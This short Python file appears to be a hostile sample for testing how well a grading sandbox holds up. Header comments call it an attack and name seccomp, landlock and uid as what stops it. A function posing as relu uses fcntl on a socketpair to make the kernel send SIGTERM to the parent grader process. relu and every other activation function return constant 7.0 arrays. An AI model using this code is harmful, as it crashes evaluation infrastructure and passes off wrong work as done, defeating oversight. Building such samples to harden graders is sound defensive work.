# attack: has the kernel signal the grader when a pipe becomes readable
# gains: crash, resources
# stopped by: seccomp, landlock, uid
import numpy as np
import fcntl
import os
import signal
import socket


def attack():
    left, right = socket.socketpair()
    fcntl.fcntl(left, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(left, 10, signal.SIGTERM)
    fcntl.fcntl(left, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    right.send(b"x")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
